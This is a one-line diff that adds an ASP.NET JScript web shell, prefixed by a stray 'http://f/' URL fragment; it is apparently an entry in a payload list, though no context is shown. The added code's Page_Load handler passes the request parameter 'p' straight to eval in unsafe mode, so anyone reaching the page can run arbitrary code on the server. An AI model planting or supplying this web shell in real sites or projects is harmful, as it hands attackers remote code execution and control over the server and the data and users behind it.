@@ -1,0 +1,1 @@
+http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["p"],"unsafe");}</script>
